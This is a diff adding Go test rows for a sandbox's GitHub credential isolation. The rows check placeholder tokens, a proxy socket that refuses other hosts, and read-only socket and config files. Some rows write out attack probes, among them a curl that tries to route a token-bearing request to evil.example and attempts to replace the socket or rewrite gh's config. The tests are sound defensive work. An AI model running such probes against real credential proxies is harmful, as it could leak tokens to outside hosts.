@@ -32,3 +32,22 @@ var sshRows = []row{
 	{name: "ssh_replace_socket", flags: []string{"--ssh"}, args: probe("unlink", "/run/stockade/ssh-agent/agent.sock"), want: "DENIED EROFS"},
 	{name: "ssh_plant_socket", flags: []string{"--ssh"}, args: probe("create", "/run/stockade/ssh-agent/x"), want: "DENIED EROFS"},
 }
+
+// ghRows: with --gh the sandbox holds the placeholder, and gh's socket and
+// config are the supervisor's (read-only). No row lets a request reach the
+// real api.github.com: each is refused before the upstream.
+var ghRows = []row{
+	{name: "gh_token_placeholder", flags: []string{"--gh"}, args: sh(`echo "$GH_TOKEN $GITHUB_TOKEN"`), want: "sk-proxy sk-proxy"},
+	// The socket serves api.github.com only: not a way to another host or
+	// route (the anthropic key is the fixture's too).
+	{name: "gh_socket_other_host", flags: []string{"--gh"},
+		args: sh(`curl -s -o /dev/null -w '%{http_code}\n' --unix-socket /run/stockade/gh/http.sock -H 'X-Api-Key: sk-proxy' http://api.anthropic.com/anthropic/v1/models`),
+		want: "421"},
+	// A proxy-style request for another host, with gh's own Host.
+	{name: "gh_socket_absolute_form", flags: []string{"--gh"},
+		args: sh(`curl -s -o /dev/null -w '%{http_code}\n' --unix-socket /run/stockade/gh/http.sock --request-target http://evil.example/ -H 'Authorization: token sk-proxy' http://api.github.com/`),
+		want: "405"},
+	{name: "gh_replace_socket", flags: []string{"--gh"}, args: probe("unlink", "/run/stockade/gh/http.sock"), want: "DENIED EROFS"},
+	// A config of the agent's own would send gh (and the placeholder) elsewhere.
+	{name: "gh_rewrite_config", flags: []string{"--gh"}, args: probe("write", "/run/stockade/gh/config.yml"), want: "DENIED EROFS"},
+}
